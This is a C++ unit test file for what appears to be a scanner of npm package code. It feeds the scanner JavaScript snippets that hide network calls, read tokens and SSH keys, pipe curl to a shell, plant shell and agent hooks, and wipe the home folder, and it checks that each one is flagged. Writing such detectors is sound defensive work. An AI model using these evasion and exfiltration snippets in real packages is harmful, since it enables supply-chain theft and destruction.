// What one file is found to be able to do: the same thing written in many ways, and harmless twins.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "inspect/syntax/capabilities.h"

namespace npmgate::code {
namespace {

// "network a.example, secrets .npmrc"; what waits for a call is in brackets.
std::string found(std::string_view text, std::string_view path = "index.js") {
  std::string out;
  for (const auto& one : read_code(path, text).reading.capabilities) {
    auto word = one.kind + (one.name.empty() ? "" : " " + one.name);
    if (!one.on_import) word = "(" + word + ")";
    out += (out.empty() ? "" : ", ") + word;
  }
  return out;
}

struct Case {
  std::string_view text;
  std::string_view want;
};

void expect_all(const std::vector<Case>& cases) {
  for (const auto& [text, want] : cases) EXPECT_EQ(found(text), want) << text;
}

TEST(CodeReading, FindsRequestsWhateverTheyAreCalledBy) {
  expect_all({
      {"require('https').get('https://a.example/x')", "network a.example"},
      {"require('node:https').request({hostname: 'a.example'})", "network a.example"},
      {"import {get as g} from 'https'; g('https://a.example')", "network a.example"},
      {"import * as h from 'https'; h['g' + 'et'](`https://${'a'}.example`)", "network a.example"},
      {"const {request: r} = require('http'); r.call(null, {host: 'a.example'})",
       "network a.example"},
      {"const h = module.require('https'); (0, h.get)('https://a.example')", "network a.example"},
      {"process.mainModule.require('https').get('https://a.example')", "network a.example"},
      {"process.getBuiltinModule('https').get('https://a.example')", "network a.example"},
      {"const r = require('module').createRequire(__filename); r('https').get('https://a.example')",
       "network a.example"},
      {"globalThis['fet' + 'ch']('https://a.example')", "network a.example"},
      {"Reflect.apply(fetch, null, ['https://a.example'])", "network a.example"},
      {"Reflect.get(globalThis, 'fetch')('https://a.example')", "network a.example"},
      {"Object.getOwnPropertyDescriptor(globalThis, 'fetch').value('https://a.example')",
       "network a.example"},
      {"const f = fetch.bind(null); f?.('https://a.example')", "network a.example"},
      {"import('https').then(h => h.get('https://a.example'))", "network a.example"},
      {"(async () => { const h = await import('https'); h.get('https://a.example') })()",
       "network a.example"},
      {"new (require('net').Socket)().connect(443, 'a.example')", "network a.example"},
      {"var https_1 = __importDefault(require('https')); https_1.default.get('https://a.example')",
       "network a.example"},
      {"const axios = require('axios'); axios.post('https://a.example', {})", "network a.example"},
      {"const m = {5: e => { e.exports = require('https') }}; function n(i) { return m[i] }\n"
       "n(5).get('https://a.example')",
       "network a.example"},
  });
}

TEST(CodeReading, PutsWordsTogether) {
  expect_all({
      {"fetch(['https:', '', 'a.example'].join('/'))", "network a.example"},
      {"fetch('elpmaxe.a//:sptth'.split('').reverse().join(''))", "network a.example"},
      {"fetch(atob('aHR0cHM6Ly9hLmV4YW1wbGUv'))", "concealed-argument network, network a.example"},
      {"fetch(Buffer.from('68747470733a2f2f612e6578616d706c65', 'hex').toString())",
       "concealed-argument network, network a.example"},
      {"fetch(String.fromCharCode(104,116,116,112,58,47,47,97,46,101,120,97,109,112,108,101))",
       "concealed-argument network, network a.example"},
      {"fetch(String.fromCharCode(...[105,117,117,113,59,48,48,98,47,102,121,98,110,113,109,102]"
       ".map(c => c - 1)))",
       "concealed-argument network, network a.example"},
      {"const a = ['x', 'example', 'https://', 'a.']; const d = i => a[i - 5]\nfetch(d(7) + d(8) + "
       "d(6))",
       "network a.example"},
      {"let u = 'https://'; u += 'a.'; u += 'example'; fetch(u)", "network a.example"},
      {"const o = {h: 'a.example'}; fetch('https://' + o.h + '/' + process.pid)",
       "network a.example"},
      {"const o = {}; o.host = 'a.example'; require('https').get(o)", "network"},
      {"fetch('https://a_example'.replace('_', '.'))", "network a.example"},
      {"fetch(decodeURIComponent('https%3A%2F%2Fa.example'))",
       "concealed-argument network, network a.example"},
      {"fetch(`https://${process.env.H}.a.example`)", "network *.a.example"},
      {"fetch(process.env.U || 'https://a.example')", "network a.example"},
      {"for (const h of ['a.example', 'b.example']) fetch('https://' + h)",
       "network a.example, network b.example"},
      {"fetch(x)", "network"},
  });
}

// What a hidden list of names is for: no order and no loop is run here, and none of them hides what
// is called.
TEST(CodeReading, IsNotFooledByNamesThatAreMadeAtRunTime) {
  expect_all({
      {"const t = ['get', 'https']; t.push(t.shift()); require(t[0])[t[1]]('https://a.example')",
       "network a.example"},
      {"function d(s) { let o = ''; for (let i = 0; i < s.length; i++)\n"
       "o += String.fromCharCode(s.charCodeAt(i) ^ 5); return o }\n"
       "require(d('mqqux'))",
       "dynamic-code decoded"},
      {"function d(p) { let o = ''; for (const i of p) o += 'abc'[i]; return o }\n"
       "fetch(d([1, 2]))",
       "concealed-argument network, network"},
      {"const d = s => s.split('').filter((_, i) => i % 2 === 0).join('');\n"
       "fetch(d('hxtxtxpx:x/x/xax.xexxxaxmxpxlxex'))",
       "network a.example"},
      {"const w = (...p) => p.map(i => 'htps:/a.exml'[i]).join('');\n"
       "fetch(w(0, 1, 1, 2, 3, 4, 5, 5, 6, 7, 8, 9, 6, 10, 2, 11, 8))",
       "network a.example"},
      {"const d = s => s.replace(/x/g, c => 'y'); require(d('fx'))", "dynamic-code decoded"},
      {"process[(n => { let o = ''; for (const c of n) o += String.fromCharCode(c); return o "
       "})([1])]",
       "environment process"},
      {"Object.entries(process).find(x)", "environment process"},
      {"require('https')[x]('https://a.example')", "network"},
      {"fetch('https://b.example').then(r => r.text()).then(eval)",
       "dynamic-code fetched, network b.example"},
      {"class A { constructor() { this.h = require('https') } go() { "
       "this.h.get('https://a.example') } }\n"
       "new A().go()",
       "network a.example"},
      {"const m = new Map([['h', require('https')]]); m.get('h').get('https://a.example')",
       "network a.example"},
      {"const h = { ...require('https') }; h.get('https://a.example')", "network a.example"},
      {"const r = require.bind(null, 'https'); r().get('https://a.example')", "network a.example"},
      {"Function.prototype.call.call(fetch, null, 'https://a.example')", "network a.example"},
      {"require(JSON.parse('{\"a\":\"https\"}').a).get('https://a.example')", "network a.example"},
      {"require(/https/.source).get('https://a.example')", "network a.example"},
      {"require(require('util').format('%s', 'https')).get('https://a.example')",
       "network a.example"},
      // Twins.
      {"let o = ''; for (const k of keys) o += k + ','; exports.o = o", ""},
      {"const a = ['a', 'b']; a.push('c'); exports.a = a.join('-')", ""},
      {"exports.letters = n => { let o = ''; for (let i = 0; i < n; i++)\n"
       "o += String.fromCharCode(97 + i); return o }",
       ""},
  });
}

TEST(CodeReading, TellsWhatItWaitsFor) {
  expect_all({
      {"if (Date.now() > 1790000000000) x()", "trigger date"},
      {"if (new Date() > new Date('2026-09-01')) x()", "trigger date"},
      {"if (new Date().getMonth() === 8) x()", "trigger date"},
      {"if (Intl.DateTimeFormat().resolvedOptions().timeZone === 'x') y()", "trigger locale"},
      {"if (/^ru/.test(process.env.LANG)) x()", "trigger locale"},
      {"require('os').cpus()", "trigger machine"},
      {"exports.old = t => (Date.now() - t) / 864e5 > 7", ""},
      {"if (process.env.NODE_ENV === 'production') x()", ""},
  });
}

// `await` and `yield` are names in some scripts: what follows is no regular expression there.
TEST(CodeReading, ReadsOperatorsThatMayBeNamesBothWays) {
  expect_all({
      {"var await = 1; x = await/fetch('https://a.example')///;", "network a.example"},
      {"export default /a//fetch('https://a.example')\n1", "network a.example"},
      {"async function f() { return await /fetch('https:..b.example')/.exec(x) }", ""},
  });
}

TEST(CodeReading, FindsProgramsAndWhatTheyDo) {
  expect_all({
      {"require('child_process').exec('curl -s https://a.example/x | sh')",
       "network a.example, process curl, process-hidden piped to a shell"},
      {"require('child_process')['ex' + 'ec']('ls')", "process ls"},
      {"const {spawn} = require('child_process'); spawn('node', ['x.js'], {detached: true, stdio: "
       "'ignore'})",
       "process node, process-hidden detached"},
      {"process.binding('spawn_sync').spawn({file: 'ls'})", "process ls"},
      {"require('child_process').execSync('claude --dangerously-skip-permissions -p hi')",
       "agent-command claude, process claude"},
      {"require('child_process').exec('curl -so /tmp/x https://a.example/x; sh /tmp/x')",
       "network a.example, process curl, process-hidden downloaded and run"},
      {"require('child_process').exec('powershell -enc AAAA')",
       "process powershell, process-hidden powershell -e"},
      {"fetch('https://a.example/' + require('os').hostname())",
       "machine-identity os.hostname, network a.example"},
      {"require('child_process').exec('npm publish')", "package-publish npm publish, process npm"},
      {"const run = require('util').promisify(require('child_process').exec); run('ls')",
       "process ls"},
      {"exports.run = () => require('child_process').exec('ls')", "(process ls)"},
      {"/a/.exec('child_process')", ""},
      {"class A { run() { require('child_process').exec('ls') } } new A().run()", "process ls"},
  });
}

TEST(CodeReading, FindsTextThatIsRun) {
  expect_all({
      {"fetch('https://a.example').then(r => r.text()).then(t => (0, eval)(t))",
       "dynamic-code fetched, network a.example"},
      {"require('https').get('https://a.example', r => { let s = ''; r.on('data', c => s += c)\n"
       ".on('end', () => { new Function('require', s)(require) }) })",
       "dynamic-code fetched, network a.example"},
      {"require('vm').runInThisContext(require('fs').readFileSync(__dirname + '/x'))",
       "dynamic-code read"},
      {"(() => {}).constructor(atob(x))()", "dynamic-code decoded"},
      {"''.constructor.constructor(atob(x))()", "dynamic-code decoded"},
      {"[].filter.constructor(atob(x))()", "dynamic-code decoded"},
      {"globalThis['ev' + 'al'](atob(x))", "dynamic-code decoded"},
      {"setTimeout(atob(x), 1)", "dynamic-code decoded"},
      {"import('data:text/javascript,fetch(%22https://a.example%22)')",
       "dynamic-code data:, network a.example"},
      {"new (require('worker_threads').Worker)(atob(x), {eval: true})", "dynamic-code decoded"},
      {"module._compile(Buffer.from(x, 'base64').toString(), 'x')", "dynamic-code decoded"},
      {"eval('fetch(\"https://a.example\")')", "network a.example"},
      // Constant text is read, and harmless text is nothing.
      {"Function('return this')()", ""},
      {"new Function('a', 'b', 'return a + b')", ""},
      {"eval('1 + 1')", ""},
      {"exports.compile = source => new Function('data', source)", "(dynamic-code given)"},
  });
}

TEST(CodeReading, FindsSecretsByNameAndPlace) {
  expect_all({
      {"require('fs').readFileSync(require('path').join(require('os').homedir(), '.npm' + 'rc'))",
       "secrets .npmrc"},
      {"require('fs').readFileSync(process.env.HOME + '/.ssh/id_rsa')", "secrets .ssh"},
      {"require('fs/promises').readFile(`${require('os').homedir()}/.aws/credentials`)",
       "secrets .aws/credentials"},
      {"for (const f of ['.npmrc', '.netrc']) require('fs').readFileSync(require('os').homedir() + "
       "'/' + f)",
       "secrets .netrc, secrets .npmrc"},
      {"const {NPM_TOKEN} = process.env", "secrets NPM_TOKEN"},
      {"const {NPM_TOKEN: t} = process.env; send(t)", "secrets NPM_TOKEN"},
      {"send(process.env['NPM_' + 'TOKEN'])", "secrets NPM_TOKEN"},
      {"const {env} = process; send(JSON.stringify(env))", "environment process.env"},
      {"const e = {...process.env}; send(e)", "environment process.env"},
      {"for (const k in process.env) send(k)", "environment process.env"},
      // What everybody does.
      {"if (process.env.NODE_ENV === 'production') x()", ""},
      {"require('child_process').spawn('ls', [], {env: {...process.env, A: 1}})", "process ls"},
      {"const env = process.env; if (env.CI) x()", "trigger CI"},
      {"require('fs').readFileSync(__dirname + '/.npmrc')", ""},
      {"throw new Error('put a token into your .npmrc')", ""},
  });
}

TEST(CodeReading, FindsWhatIsLeftBehindAndReplaced) {
  expect_all({
      {"require('fs').writeFileSync(process.cwd() + '/.claude/settings.json', x)",
       "agent-autorun .claude, outside-write <project>/.claude/settings.json"},
      {"require('fs').appendFileSync(require('os').homedir() + '/.bashrc', x)",
       "outside-write ~/.bashrc, persistence .bashrc"},
      {"require('fs').writeFileSync('.git/hooks/pre-commit', x)",
       "agent-autorun .git/hooks, outside-write .git/hooks/pre-commit"},
      {"const h = require('https'); h.request = x", "global-patching https.request"},
      {"globalThis.fetch = x", "global-patching fetch"},
      {"Object.defineProperty(XMLHttpRequest.prototype, 'open', {})",
       "global-patching XMLHttpRequest.prototype.open"},
      {"window.ethereum.request = x", "global-patching ethereum.request"},
      {"require('fs').rmSync(require('os').homedir(), {recursive: true})", "destruction ~"},
      {"setTimeout(x, 1000 * 60 * 60 * 24 * 3)", "far-timer 72 h"},
      {"mailer.sendMail({to: x, bcc: 'a@b.example'})", "mail-copy a@b.example"},
      {"require('./build/x.node')", "native-code ./build/x.node"},
      {"require('fs').writeFileSync(__dirname + '/cache.json', x)", ""},
  });
}

TEST(CodeReading, TellsWhatRunsOnImportFromWhatWaits) {
  expect_all({
      {"function f() { fetch('https://a.example') } f()", "network a.example"},
      {"function f() { fetch('https://a.example') }", "(network a.example)"},
      {"const f = () => fetch('https://a.example'); setTimeout(f, 10)", "network a.example"},
      {"export class A { static x = fetch('https://a.example') }", "network a.example"},
      {"export class A { x = fetch('https://a.example') }", "(network a.example)"},
      {"export class A { static { fetch('https://a.example') } }", "network a.example"},
      {"export class A { constructor() { fetch('https://a.example') } }; new A()",
       "network a.example"},
      {"(function () { return { 7: function (e) { fetch('https://a.example') } } })()",
       "network a.example"},
      {"exports.a = function () { fetch('https://a.example') }", "(network a.example)"},
      {"process.on('exit', () => fetch('https://a.example'))", "network a.example"},
      {"exports.load = wrap(async () => fetch('https://a.example'))", "(network a.example)"},
      {"const load = _asyncToGenerator(function* () { yield fetch('https://a.example') })",
       "(network a.example)"},
      {"const now = f => f(); const x = now(() => fetch('https://a.example'))",
       "network a.example"},
      {"const later = f => () => f(); exports.x = later(() => fetch('https://a.example'))",
       "(network a.example)"},
      {"const p = new Promise(r => fetch('https://a.example').then(r))", "network a.example"},
  });
}

TEST(CodeReading, IsNotFooledByWhatLooksLikeAComment) {
  expect_all({
      {"await (0) / 'a/' + '/*';\nfetch('https://a.example')\n'*/ //'", "network a.example"},
      {"typeof\xc2\xa0/[/*]/;\nfetch('https://a.example')\ntypeof\xc2\xa0/[*/]/.source",
       "network a.example"},
      {"\xef\xbb\xbf/[/*]/;\nfetch('https://a.example')\n/[*/]/", "network a.example"},
      {"0/*\n*/--> /*\nfetch('https://a.example')\n//*/", "network a.example"},
      {"import 'x'\n0<!--x, fetch('https://a.example')", "network a.example"},
      {"`${ {} / 'a/' + '/*' + fetch('https://a.example') + '*/ //'}`", "network a.example"},
  });
}

TEST(CodeReading, EndsTheInterpretersLineAsEnginesDo) {
  for (const std::string end : {"\n", "\r", "\r\n", "\xE2\x80\xA8", "\xE2\x80\xA9"})
    EXPECT_EQ(found("#!/usr/bin/env node" + end + "fetch('https://a.example')"),
              "network a.example");
  EXPECT_EQ(found("#!/usr/bin/env node fetch('https://a.example')"), "");
}

TEST(CodeReading, SeesThroughWhatHidesNames) {
  expect_all({
      {"arguments[1]('https').get('https://a.example')", "network a.example"},
      {"ev\\u0061l(atob(x))", "dynamic-code decoded"},
      {"const r\\u0065q = require; req('https').get('https://a.example')", "network a.example"},
      {"Function('return this')().fetch('https://a.example')", "network a.example"},
      {"(0, eval)('require')('https').get('https://a.example')", "network a.example"},
      {"new Function('return process')().mainModule.require('https').get('https://a.example')",
       "network a.example"},
      {"require('module').prototype.require.call(module, 'https').get('https://a.example')",
       "network a.example"},
      {"globalThis.process.mainModule.constructor._load('https').get('https://a.example')",
       "network a.example"},
      {"[require][0]('https').get('https://a.example')", "network a.example"},
      {"this.constructor.constructor(atob(x))()", "dynamic-code decoded"},
      {"require.extensions['.x'] = (m, f) => m._compile(require('fs').readFileSync(f), f)",
       "dynamic-code read, global-patching require.extensions..x"},
      {"'' + {toString() { fetch('https://a.example') }}", "network a.example"},
      {"const s = document.createElement('script'); s.src = 'https://a.example/x.js'",
       "network a.example"},
      {"fetch('http://169.254.169.254/latest/meta-data/')",
       "network 169.254.169.254, secrets cloud metadata"},
      {"require('fs').readdirSync(require('os').homedir())", "secrets home folders"},
      {"require('dns').lookup(Buffer.from(x).toString('hex') + '.a.example')", "dns *.a.example"},
  });
}

// Chains and nests of any length cost what their text costs.
TEST(CodeReading, TakesLongChains) {
  std::string chain = "a";
  for (int i = 0; i < 1000; ++i) chain += ".b(1)";
  EXPECT_EQ(found(chain + ";fetch('https://a.example')"), "network a.example");
  EXPECT_EQ(found("const f = x => x" + chain.substr(1) + ";f(1);fetch('https://a.example')"),
            "network a.example");
  std::string sum = "fetch('https://a' ";
  for (int i = 0; i < 3000; ++i) sum += "+ ''";
  EXPECT_EQ(found(sum + " + '.example')"), "network a.example");
}

TEST(CodeReading, SaysWhatWasNotRead) {
  EXPECT_EQ(read_code("a.js", "((((").reading.unread, "errors");
  ParseLimits limits;
  limits.max_bytes = 10;
  EXPECT_EQ(read_code("a.js", "fetch('https://a.example')", limits).reading.unread, "too-large");
  std::string deep(200'000, '[');
  EXPECT_EQ(read_code("a.js", deep).reading.unread, "too-long");
  // Between two quotes that are none.
  EXPECT_EQ(read_code("a.js", "/*'*/" + deep + "/*'*/").reading.unread, "too-long");
  EXPECT_EQ(read_code("a.js", "/'/;" + deep + "/'/").reading.unread, "too-long");
  EXPECT_EQ(read_code("a.js", "x('" + std::string(9000, '[') + "')").reading.unread, "");
}

// Eight calls in each of seven functions: what a call gives is worked out once for its arguments.
TEST(CodeReading, FollowsTheSameCallsOnce) {
  std::string arguments = "x", text;
  for (int i = 0; i < 200; ++i) arguments += ", x";
  for (int i = 0; i < 7; ++i) {
    const std::string call = " f" + std::to_string(i + 1) + "(" + arguments + ")";
    std::string sum = call;
    for (int k = 1; k < 8; ++k) sum += " +" + call;
    text += "function f" + std::to_string(i) + "(x) { return" + sum + "; }\n";
  }
  text += "function f7(x) { return x; }\nf0(window.a);\nfetch('https://a' + '.example');\n";
  EXPECT_EQ(read_code("a.js", text).reading.unread, "");
  EXPECT_EQ(found(text), "network a.example");
}

// What is known outside calls holds inside, but for what the calls' own arguments decide.
TEST(CodeReading, TellsCallsWithOtherArgumentsApart) {
  constexpr std::string_view kText = R"(
    function host(name) { return name + suffix(); }
    function suffix() { return '.example'; }
    function pick(first, second) { return first ? host(first) : host(second); }
    fetch('https://' + pick('a', 'b'));
    fetch('https://' + pick('', 'b'));
    fetch('https://' + pick('c'));
  )";
  EXPECT_EQ(found(kText), "network a.example, network b.example, network c.example");
}

TEST(CodeReading, NamesTheFilesThatAreLoaded) {
  const auto loads = [](std::string_view text) {
    std::string out;
    for (const auto& load : read_code("lib/a.js", text).loads)
      if (!load.module || load.name.starts_with('.'))
        out += (out.empty() ? "" : ", ") + load.name + (load.module ? " (module)" : "");
    return out;
  };
  EXPECT_EQ(loads("require('./b')"), "./b (module)");
  EXPECT_EQ(loads("require('./' + 'b')"), "./b (module)");
  EXPECT_EQ(loads("import x from './b.js'; export * from './c.js'"),
            "./b.js (module), ./c.js (module)");
  EXPECT_EQ(loads("require(require('path').join(__dirname, '..', 'x.txt'))"), "x.txt");
  EXPECT_EQ(loads("new Worker(new URL('./w.js', import.meta.url))"), "lib/w.js");
  EXPECT_EQ(loads("require('fs').readFileSync(__dirname + '/t.json')"), "lib/t.json");
  EXPECT_EQ(loads("require('child_process').fork(require.resolve('./b'))"), "lib/b");
  EXPECT_EQ(loads("require('child_process').spawn('python3', [__dirname + '/x.py'])"), "lib/x.py");
}

TEST(CodeReading, ReadsTypeScript) {
  EXPECT_EQ(found("const u: string = 'https://a.example'; fetch(u as string)", "a.ts"),
            "network a.example");
  EXPECT_EQ(found("const u = <string>'https://a.example'; fetch(u!)", "a.ts"), "network a.example");
  EXPECT_EQ(found("export const A = () => <a href={fetch('https://a.example')}/>", "a.tsx"),
            "(network a.example)");
}

}  // namespace
}  // namespace npmgate::code
